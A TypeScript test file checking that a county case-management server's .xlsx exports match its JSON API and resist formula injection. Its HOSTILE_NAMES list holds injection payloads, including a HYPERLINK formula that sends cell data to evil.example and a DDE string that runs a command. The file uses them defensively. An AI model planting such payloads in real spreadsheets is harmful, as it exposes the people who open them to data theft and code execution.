// The county's .xlsx exports read back with exceljs and compared cell by cell with the JSON the
// screen shows: the case list (the queue's filters, every matching case, hostile text never a
// formula, one audit entry per export) and the reports.
import { randomUUID } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createAccount, createTownship } from '../../src/server/county/administration';
import { DEFAULT_PARAMETERS } from '../../src/domain';
import { CASE_LIST_HEADERS, MONEY_FORMAT, PEOPLE_FORMAT, PERCENT_FORMAT, safeText, TEXT_FORMAT, UNIT_PAYER_ZH } from '../../src/server/reports/xlsx';
import type { CaseListItem, CaseQueuePage } from '../../src/shared/admin-api';
import { LIFECYCLE_STATUS_ZH } from '../../src/shared/case-lifecycle';
import type { AugustStatistics, CompletionSummary, MoneyFigures, WeeklyReport } from '../../src/shared/reports';
import { OTHER_TOWNSHIP, TOWNSHIP } from '../support/sync-fixtures';
import { bodyOf, startSyncServer, type SyncTestServer } from '../support/sync-server';
import { seedDevice, seedQueueCases } from '../support/queue-seed';
import { describeOnEachDatabase } from './helpers';

const ELSEWHERE = { code: '150202001', name: '东河区测试街道' };

/** Names a hostile tablet could send: each would be a formula if written as one. */
const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

function payloadOf(res: LightMyRequestResponse): Buffer {
  return res.headers['content-encoding'] === 'gzip' ? gunzipSync(res.rawPayload) : res.rawPayload;
}

async function readBook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(buffer as unknown as ArrayBuffer);
  return book;
}

describeOnEachDatabase('the case list exported as .xlsx', (kind) => {
  let s: SyncTestServer;
  let auditorCookie: string;
  let clerkCookie: string;

  beforeAll(async () => {
    s = await startSyncServer(kind, 'report-xlsx-cases');
    const ctx = s.app.county;
    await createTownship(ctx, ELSEWHERE);
    await seedDevice(ctx.db, 'SEED0001', TOWNSHIP.code);
    await seedDevice(ctx.db, 'SEED0002', ELSEWHERE.code);
    await seedQueueCases(ctx.db, kind, { from: 1, count: 120, townships: [TOWNSHIP.code, OTHER_TOWNSHIP.code], deviceId: 'SEED0001' });
    await seedQueueCases(ctx.db, kind, { from: 121, count: 10, townships: [ELSEWHERE.code], deviceId: 'SEED0002' });
    const some = await ctx.db.selectFrom('cases').select('id').where('township_code', '=', TOWNSHIP.code).orderBy('id').limit(HOSTILE_NAMES.length).execute();
    for (const [i, r] of some.entries()) await ctx.db.updateTable('cases').set({ name: HOSTILE_NAMES[i]! }).where('id', '=', r.id).execute();
    const login = async (username: string, role: 'auditor' | 'window-clerk') => {
      await createAccount(ctx, role === 'auditor' ? { username, password: 'export password 1', role, area: { level: 'county', code: '150102' } } : { username, password: 'export password 1', role, townshipCode: TOWNSHIP.code });
      const res = await s.app.inject({ method: 'POST', url: '/api/admin/login', payload: { username, password: 'export password 1' } });
      expect(res.statusCode, res.body).toBe(200);
      return String(res.headers['set-cookie']).split(';')[0]!;
    };
    auditorCookie = await login('export-auditor', 'auditor');
    clerkCookie = await login('export-clerk', 'window-clerk');
  });
  afterAll(async () => {
    await s?.close();
  });

  const queueAll = async (query: string): Promise<CaseListItem[]> => {
    const out: CaseListItem[] = [];
    for (let offset = 0; ; offset += 500) {
      const res = await s.admin('GET', `/api/admin/cases?${query}${query ? '&' : ''}limit=500&offset=${offset}`);
      expect(res.statusCode, res.body).toBe(200);
      const page = bodyOf<CaseQueuePage>(res);
      out.push(...page.cases);
      if (out.length >= page.total) return out;
    }
  };
  const exportXlsx = async (query: string, cookie?: string) =>
    s.app.inject({ method: 'GET', url: `/api/admin/cases/export.xlsx${query ? `?${query}` : ''}`, headers: { cookie: cookie ?? s.county.adminCookie } });

  /** The expected row of a case, as the sheet must say it. */
  const rowOf = (c: CaseListItem, names: Map<string, string>): (string | null)[] => {
    const flags = [
      [c.flags.conflict, '冲突'],
      [c.flags.possibleDuplicate, '疑似重复'],
      [c.flags.figuresDiffer, '测算不一致'],
      [c.flags.lateApplication, '逾期申请'],
      [c.flags.provisionalParameters, '暂定参数'],
      [c.flags.clerkUnverified, '经办人待核实'],
    ]
      .filter(([on]) => on)
      .map(([, zh]) => zh)
      .join('、');
    return [c.caseNumber, c.name, c.idNumber, c.townshipCode, names.get(c.townshipCode) ?? '', LIFECYCLE_STATUS_ZH[c.lifecycleStatus], c.unitPayer === null ? '' : UNIT_PAYER_ZH[c.unitPayer], flags, c.registeredBy ?? '', c.receivedAt, c.updatedAt].map(
      (v) => (v === '' ? null : safeText(v)),
    );
  };
  const names = new Map([
    [TOWNSHIP.code, TOWNSHIP.name],
    [OTHER_TOWNSHIP.code, OTHER_TOWNSHIP.name],
  ]);

  it.each(['', 'status=synced', `township=${OTHER_TOWNSHIP.code}&payer=fiscal`, 'flag=late-application', 'q=zs'])('holds, cell by cell, every case the queue lists for “%s”, in its order', async (query) => {
    const expected = await queueAll(query);
    expect(expected.length).toBeGreaterThan(0);
    const res = await exportXlsx(query);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(String(res.headers['content-disposition'])).toContain("filename*=UTF-8''%E6%A1%88%E4%BB%B6%E6%B8%85%E5%8D%95.xlsx");
    const book = await readBook(payloadOf(res));
    expect(book.worksheets.map((w) => w.name)).toEqual(['案件清单']);
    const sheet = book.getWorksheet('案件清单')!;
    // Two title lines, then the header, frozen.
    expect(sheet.getRow(3).values).toEqual([undefined, ...CASE_LIST_HEADERS]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(sheet.pageSetup.paperSize).toBe(9);
    expect(String(sheet.getCell('A2').value)).toContain(`共 ${expected.length} 件`);
    expect(sheet.rowCount).toBe(3 + expected.length);
    for (const [i, c] of expected.entries()) {
      const row = sheet.getRow(4 + i);
      const cells = CASE_LIST_HEADERS.map((_, col) => {
        const v = row.getCell(col + 1).value;
        return v === null || v === undefined ? null : (v as string);
      });
      expect(cells, `row ${4 + i}`).toEqual(rowOf(c, names));
    }
  });

  it('writes hostile names as text, never as a formula, and keeps them readable', async () => {
    const res = await exportXlsx('');
    expect(res.statusCode, res.body).toBe(200);
    const buffer = payloadOf(res);
    const book = await readBook(buffer);
    const sheet = book.getWorksheet('案件清单')!;
    const found = new Map<string, ExcelJS.Cell>();
    sheet.eachRow((row, n) => {
      if (n <= 3) return;
      const cell = row.getCell(2);
      found.set(String(cell.value), cell);
    });
    for (const name of HOSTILE_NAMES) {
      const cell = found.get(safeText(name));
      expect(cell, `the name ${JSON.stringify(name)}`).toBeDefined();
      // Prefixed, so that even a program re-reading the text as CSV takes it for text.
      expect(String(cell!.value).startsWith("'")).toBe(true);
      expect(cell!.type).toBe(ExcelJS.ValueType.String);
      expect(cell!.formula).toBeUndefined();
      expect(cell!.numFmt).toBe(TEXT_FORMAT);
    }
    // No cell of the file is a formula at all: the sheet XML has no <f> element.
    const JSZip = (await import('jszip')).default;
    const zip = await JSZip.loadAsync(buffer);
    const sheets = Object.keys(zip.files).filter((f) => f.startsWith('xl/worksheets/') && f.endsWith('.xml'));
    expect(sheets.length).toBe(1);
    for (const f of sheets) expect(await zip.file(f)!.async('string')).not.toMatch(/<f[ >]/);
  });

  it('records one audit entry per export naming the filter and the row count, the search text only beside the chain', async () => {
    const expected = await queueAll('status=verified');
    const res = await exportXlsx('status=verified');
    expect(res.statusCode).toBe(200);
    const searched = await exportXlsx('q=zs');
    expect(searched.statusCode).toBe(200);
    const entries = await s.app.county.db.selectFrom('audit_chain').select(['seq', 'actor', 'detail', 'area_code', 'personal_sha256']).where('action', '=', 'case.export').orderBy('seq', 'desc').limit(2).execute();
    const [search, byStatus] = entries;
    expect(byStatus!.actor).toBe('county-admin');
    expect(byStatus!.area_code).toBe('150102');
    expect(JSON.parse(byStatus!.detail!)).toEqual({ format: 'xlsx', filter: { lifecycleStatus: 'verified', search: false }, rows: expected.length });
    expect(byStatus!.personal_sha256).toBeNull();
    expect(search!.detail).not.toContain('zs');
    expect(JSON.parse(search!.detail!).filter.search).toBe(true);
    const values = await s.app.county.db.selectFrom('audit_values').select('personal').where('entry_seq', '=', search!.seq).executeTakeFirstOrThrow();
    expect(JSON.parse(values.personal!)).toEqual({ q: 'zs' });
  });

  it('gives a role that may read the area’s cases only that area’s, and refuses one that may not', async () => {
    const res = await exportXlsx('', auditorCookie);
    expect(res.statusCode, res.body).toBe(200);
    const sheet = (await readBook(payloadOf(res))).getWorksheet('案件清单')!;
    const townships = new Set<string>();
    sheet.eachRow((row, n) => {
      if (n > 3) townships.add(String(row.getCell(4).value));
    });
    expect([...townships].sort()).toEqual([TOWNSHIP.code, OTHER_TOWNSHIP.code]);
    const refused = await exportXlsx('', clerkCookie);
    expect(refused.statusCode).toBe(403);
  });

  it.each([
    ['limit', 'limit=10'],
    ['offset', 'offset=10'],
    ['status', 'status=done'],
  ])('refuses %s (%s) with 422 naming it', async (parameter, query) => {
    const res = await exportXlsx(query);
    expect(res.statusCode, res.body).toBe(422);
    expect(bodyOf<{ error: { problems: { path: string }[] } }>(res).error.problems.map((p) => p.path)).toEqual([parameter]);
  });
});

// --- the reports ----------------------------------------------------------------------------------

const LEVEL_ZH: Record<string, string> = { region: '自治区', league: '盟市', county: '旗县（市、区）', township: '乡镇（街道）' };
const COLUMNS = ['registered', 'verified', 'sent-to-agency', 'agency-reported', 'paying', 'completed', 'transferred', 'not-eligible', 'correction-requested'] as const;
const COLUMN_ZH = ['登记', '核查通过', '送经办机构', '经办测算已反馈', '补缴办理中', '完成', '转出', '不符合', '退回补正'];
const PERIODS = ['thisWeek', 'previousWeek', 'toDate'] as const;
const PERIOD_ZH = ['本周', '上周', '累计'];
const PAYER_ZH = { unit: '原安置单位', superior: '上级主管部门', fiscal: '财政' } as const;

type Cell = string | number | null;

/** The report's rows as the sheets list them: the total, then each level broadest first. */
function lines<R>(r: { total: R; levels: readonly { level: string; rows: readonly R[] }[] }): [string, R][] {
  return [['合计', r.total], ...r.levels.flatMap((l) => l.rows.map((row): [string, R] => [LEVEL_ZH[l.level]!, row]))];
}

/** Yuan as the cell holds it. */
const yuan = (s: string): number => Number(s);

/** The engine's figures, then the agencies', each pension then medical, unit / individual / total, then the case count. */
function moneyCells(m: MoneyFigures): Cell[] {
  return (['engine', 'agency'] as const).flatMap((src) => [
    ...(['pension', 'medical'] as const).flatMap((t) => [yuan(m[src][t].unit), yuan(m[src][t].individual), yuan(m[src][t].total)]),
    src === 'engine' ? m.engineCases : m.agencyCases,
  ]);
}

/** Every data row of a sheet (below its two title lines and header) as plain values. */
function sheetRows(sheet: ExcelJS.Worksheet, width: number): Cell[][] {
  const out: Cell[][] = [];
  for (let n = 4; n <= sheet.rowCount; n++) {
    const row = sheet.getRow(n);
    out.push(Array.from({ length: width }, (_, i) => {
      const v = row.getCell(i + 1).value;
      return v === undefined || v === null ? null : (v as string | number);
    }));
  }
  return out;
}

function headerOf(sheet: ExcelJS.Worksheet, width: number): string[] {
  return Array.from({ length: width }, (_, i) => String(sheet.getRow(3).getCell(i + 1).value));
}

/** A few cases with money, steps and agency findings (the figures as the report's own tests build them). */
async function insertReportCases(s: SyncTestServer): Promise<void> {
  const db = s.app.county.db;
  await seedDevice(db, 'XLSX0001', TOWNSHIP.code);
  const cases = [
    { township: TOWNSHIP.code, at: '2024-04-26T01:00:00.000Z', payer: 'unit', lifecycle: 'verified', engine: ['1000.00', '400.00', '300.50', '100.25'], step: 'verified', finding: null },
    { township: TOWNSHIP.code, at: '2024-04-20T01:00:00.000Z', payer: 'fiscal', lifecycle: 'completed', engine: ['2000.00', '800.00', null, null], step: 'completed', finding: ['2100.00', '810.00'] },
    { township: OTHER_TOWNSHIP.code, at: '2024-04-29T01:00:00.000Z', payer: 'superior', lifecycle: 'synced', engine: ['123.45', '67.89', null, null], step: null, finding: null },
    { township: OTHER_TOWNSHIP.code, at: '2024-03-01T01:00:00.000Z', payer: 'fiscal', lifecycle: 'not-eligible', engine: ['9.99', '0.01', null, null], step: 'not-eligible', finding: null },
  ] as const;
  for (const [n, c] of cases.entries()) {
    const id = randomUUID();
    const versionId = randomUUID();
    await db
      .insertInto('cases')
      .values({
        id, case_number: `150102-XLSX0001-${80000 + n}`, device_id: 'XLSX0001', township_code: c.township, id_number: `15010219700101${String(2000 + n)}`, name: '报表', status: 'registered',
        county_status: 'received', correction_request: null, facts: '{}', registration: '{}', revision: 1, current_version_id: versionId, parameters_version: 'nm43-2019', conflict: 0,
        possible_duplicate: 0, figures_differ: 0, received_at: c.at, updated_at: c.at, updated_by: 'test', lifecycle_status: c.lifecycle, unit_payer: c.payer,
      })
      .execute();
    await db
      .insertInto('case_versions')
      .values({ id: versionId, case_id: id, revision: 1, base_revision: null, source: 'tablet', mutation_id: randomUUID(), device_id: 'XLSX0001', actor: 'test', at: c.at, received_at: c.at, status: 'registered', facts: '{}', registration: '{}', figures: '{}', conflicting: 0 })
      .execute();
    const [pu, pi, mu, mi] = c.engine;
    await db
      .insertInto('server_determinations')
      .values({ version_id: versionId, parameters_version: 'nm43-2019', case_id: id, purpose: 'tablet-set', figures: JSON.stringify({ pensionUnitAmount: pu, pensionIndividualAmount: pi, medicalUnitAmount: mu, medicalIndividualAmount: mi, pensionUnitPayer: c.payer }), determination_sha256: null, program_version: null, error: null, figures_differ: 0, computed_at: c.at })
      .execute();
    if (c.step !== null) {
      await db
        .insertInto('case_steps')
        .values({ id: randomUUID(), case_id: id, step: c.step, from_status: 'synced', to_status: c.step, actor: 'reviewer', role: 'county-reviewer', area_level: 'county', area_code: '150102', at: '2024-04-30T00:00:00.000Z', comment: '', checks: null, reason_for_veteran: null, void: 0, voided_by_step: null, audit_seq: 900 + n, audit_hash: '0'.repeat(64) })
        .execute();
    }
    if (c.finding !== null) {
      await db
        .insertInto('agency_findings')
        .values({
          id: randomUUID(), case_id: id, track: 'pension', gap_months: 12, unit_amount: c.finding[0], individual_amount: c.finding[1], computed_on: '2024-04-29', agency_name: '测试社保中心', document_number: '测字1号',
          document_date: '2024-04-29', recorded_by: 'reviewer', recorded_at: '2024-04-29T00:00:00.000Z', engine_gap_months: 12, engine_unit_amount: null, engine_individual_amount: null,
          parameter_version: 'nm43-2019', differs: 1, difference_amount: '110.00', engine_error: null, audit_seq: 1, superseded_by: null,
        })
        .execute();
    }
  }
}

describeOnEachDatabase('the reports exported as .xlsx', (kind) => {
  let s: SyncTestServer;

  beforeAll(async () => {
    s = await startSyncServer(kind, 'report-xlsx-reports');
    await insertReportCases(s);
  });
  afterAll(async () => {
    await s?.close();
  });

  const json = async <T>(url: string): Promise<T> => {
    const res = await s.admin('GET', url);
    expect(res.statusCode, res.body).toBe(200);
    return bodyOf<T>(res);
  };
  const book = async (url: string): Promise<ExcelJS.Workbook> => {
    const res = await s.admin('GET', url);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    return readBook(payloadOf(res));
  };

  async function checkWeekly(report: WeeklyReport, wb: ExcelJS.Workbook): Promise<void> {
    expect(wb.worksheets.map((w) => w.name)).toEqual(['工作进度', '人数和资金', '财政资金分担']);
    const rows = lines(report);

    const progress = wb.getWorksheet('工作进度')!;
    const width = 3 + COLUMNS.length * PERIODS.length;
    expect(headerOf(progress, width)).toEqual(['层级', '区划代码', '名称', ...COLUMN_ZH.flatMap((c) => PERIOD_ZH.map((p) => `${c}（${p}）`))]);
    expect(sheetRows(progress, width)).toEqual(rows.map(([level, r]) => [level, r.area.code, r.name || null, ...COLUMNS.flatMap((c) => PERIODS.map((p) => r.progress[c][p]))]));
    expect(progress.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(progress.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true });
    expect(progress.getRow(4).getCell(4).numFmt).toBe(PEOPLE_FORMAT);

    const payers = wb.getWorksheet('人数和资金')!;
    expect(headerOf(payers, 20).slice(0, 8)).toEqual(['层级', '区划代码', '名称', '单位缴费承担方', '期间', '人数', '系统测算·养老保险·单位缴费（元）', '系统测算·养老保险·个人缴费（元）']);
    expect(sheetRows(payers, 20)).toEqual(
      rows.flatMap(([level, r]) => r.payers.flatMap((p) => PERIODS.map((period, k) => [level, r.area.code, r.name || null, PAYER_ZH[p.payer], PERIOD_ZH[k]!, p.periods[period].people, ...moneyCells(p.periods[period].money)]))),
    );
    expect(payers.getRow(4).getCell(7).numFmt).toBe(MONEY_FORMAT);

    const fiscal = wb.getWorksheet('财政资金分担')!;
    expect(sheetRows(fiscal, 11)).toEqual(
      rows.flatMap(([level, r]) =>
        PERIODS.map((period, k) => {
          const cells = r.payers.find((p) => p.payer === 'fiscal')!.fiscalSplit![period];
          const shares: Cell[] = cells.published
            ? (['engine', 'agency'] as const).flatMap((src) => (['region', 'league', 'county'] as const).map((l) => yuan(cells[src][l])))
            : Array<Cell>(6).fill('比例未公布');
          return [level, r.area.code, r.name || null, PERIOD_ZH[k]!, cells.published ? cells.parametersVersion : '比例未公布', ...shares];
        }),
      ),
    );
  }

  it('holds the weekly report’s every figure, cell by cell as the JSON route gives it, the fiscal split marked 比例未公布 while no ratios are in force', async () => {
    const report = await json<WeeklyReport>('/api/admin/reports/weekly?week=2024-05-01');
    // The fixture's figures reach the sheet: this week c1 (unit) and c3 (superior) were registered.
    expect(report.total.progress.registered).toEqual({ thisWeek: 2, previousWeek: 1, toDate: 4 });
    expect(report.total.payers.find((p) => p.payer === 'fiscal')!.fiscalSplit!.toDate.published).toBe(false);
    await checkWeekly(report, await book('/api/admin/reports/weekly.xlsx?week=2024-05-01'));
  });

  it('holds the fiscal split to the fen once ratios are in force', async () => {
    const doc = {
      ...structuredClone(DEFAULT_PARAMETERS),
      version: 'xlsx-test-fiscal',
      issued: '2026-06-01',
      fiscalSplit: { region: [{ from: '2019-01-01', region: '0.5', league: '0.3', county: '0.2', unit: 'ratio', source: '测试比例', provisional: false }], leagues: {} },
    };
    await s.app.county.db.insertInto('parameter_sets').values({ version: 'xlsx-test-fiscal', document: JSON.stringify(doc), issued: '2026-06-01', published_at: '2024-05-01T00:00:00.000Z', published_by: 'test' }).execute();
    const report = await json<WeeklyReport>('/api/admin/reports/weekly?week=2024-05-01');
    const split = report.total.payers.find((p) => p.payer === 'fiscal')!.fiscalSplit!.toDate;
    expect(split.published).toBe(true);
    await checkWeekly(report, await book('/api/admin/reports/weekly.xlsx?week=2024-05-01'));
  });

  it('holds the end-of-August statistics cell by cell', async () => {
    const stats = await json<AugustStatistics>('/api/admin/reports/august-statistics?year=2024');
    expect(stats.total.people).toBe(4);
    const wb = await book('/api/admin/reports/august-statistics.xlsx?year=2024');
    const sheet = wb.getWorksheet('8月底统计')!;
    const width = 3 + 1 + 3 + 14;
    expect(headerOf(sheet, 7)).toEqual(['层级', '区划代码', '名称', '登记人数', '登记人数·原安置单位', '登记人数·上级主管部门', '登记人数·财政']);
    expect(sheetRows(sheet, width)).toEqual(lines(stats).map(([level, r]) => [level, r.area.code, r.name || null, r.people, r.peopleByPayer.unit, r.peopleByPayer.superior, r.peopleByPayer.fiscal, ...moneyCells(r.money)]));
  });

  it('holds the completion summary cell by cell, the closed share as a percentage', async () => {
    const summary = await json<CompletionSummary>('/api/admin/reports/completion');
    expect(summary.total.byState).toMatchObject({ completed: 1, 'not-eligible': 1 });
    const wb = await book('/api/admin/reports/completion.xlsx');
    const sheet = wb.getWorksheet('完成情况汇总')!;
    const width = 3 + 1 + 4 + 1 + 14;
    expect(headerOf(sheet, 9)).toEqual(['层级', '区划代码', '名称', '案件数', '办理中', '完成', '转出', '不符合', '办结比例']);
    expect(sheetRows(sheet, width)).toEqual(
      lines(summary).map(([level, r]) => [level, r.area.code, r.name || null, r.cases, r.byState.open, r.byState.completed, r.byState.transferred, r.byState['not-eligible'], Number(r.closedShare), ...moneyCells(r.completedMoney)]),
    );
    expect(sheet.getRow(4).getCell(9).numFmt).toBe(PERCENT_FORMAT);
  });

  it('refuses a week that is no date with 422 naming it, as the JSON route does', async () => {
    const res = await s.admin('GET', '/api/admin/reports/weekly.xlsx?week=someday');
    expect(res.statusCode).toBe(422);
    expect(bodyOf<{ error: { problems: { path: string }[] } }>(res).error.problems.map((p) => p.path)).toEqual(['week']);
  });
});
